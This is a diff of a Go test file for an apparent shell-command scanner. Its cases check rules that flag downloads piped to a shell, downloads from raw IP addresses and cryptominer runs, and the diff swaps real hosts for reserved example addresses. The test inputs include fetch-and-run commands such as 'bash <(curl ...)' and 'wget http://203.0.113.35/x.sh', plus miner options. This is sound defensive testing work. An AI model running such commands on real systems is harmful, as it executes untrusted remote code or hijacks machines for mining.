@@ -93,7 +93,7 @@ func TestShellRules(t *testing.T) {
 		{"bash process substitution", "bash <(curl -s https://x.example/i)", RuleDownloadPipeShell, true},
 		{"sh -c command substitution", `sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"`, RuleDownloadPipeShell, true},
 		{"rustup installer is still curl|sh (weak)", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", RuleDownloadPipeShell, true},
-		{"download to file is not piped", "curl -fsSL https://deb.nodesource.com/setup_20.x -o /tmp/setup.sh", RuleDownloadPipeShell, false},
+		{"download to file is not piped", "curl -fsSL https://installer.example.com/setup_20.x -o /tmp/setup.sh", RuleDownloadPipeShell, false},
 		{"grep for curl is not a download", "echo curl | grep sh", RuleDownloadPipeShell, false},
 		{"curl piped to tar", "curl -fsSL https://ftp.drupal.org/files/projects/drupal-10.2.0.tar.gz | tar -xz", RuleDownloadPipeShell, false},
 		// base64-exec
@@ -146,10 +146,10 @@ func TestShellRules(t *testing.T) {
 		{"clone is not run", "git clone https://github.com/xmrig/xmrig && cd xmrig && mkdir build", RuleRunMiner, false},
 		{"apt install of an unrelated package", "apt-get install -y --no-install-recommends libcurl4-openssl-dev libjansson-dev", RuleRunMiner, false},
 		// raw-ip-download
-		{"wget from raw IP", "wget http://45.9.148.35/x.sh", RuleRawIPDownload, true},
+		{"wget from raw IP", "wget http://203.0.113.35/x.sh", RuleRawIPDownload, true},
 		{"curl from raw IP with port", "curl -s http://203.0.113.4:8080/p -o p", RuleRawIPDownload, true},
-		{"download from a host name", "curl -fsSL https://deb.debian.org/debian/dists/bookworm/Release", RuleRawIPDownload, false},
-		{"echo of an IP URL", "echo http://1.2.3.4/", RuleRawIPDownload, false},
+		{"download from a host name", "curl -fsSL https://mirror.example.org/debian/dists/bookworm/Release", RuleRawIPDownload, false},
+		{"echo of an IP URL", "echo http://192.0.2.4/", RuleRawIPDownload, false},
 		{"not an IP", "curl http://999.1.1.1/x", RuleRawIPDownload, false},
 		// miner-options
 		{"cpuminer algo", "./a.out -a cryptonight -o x:1", RuleMinerOptions, true},
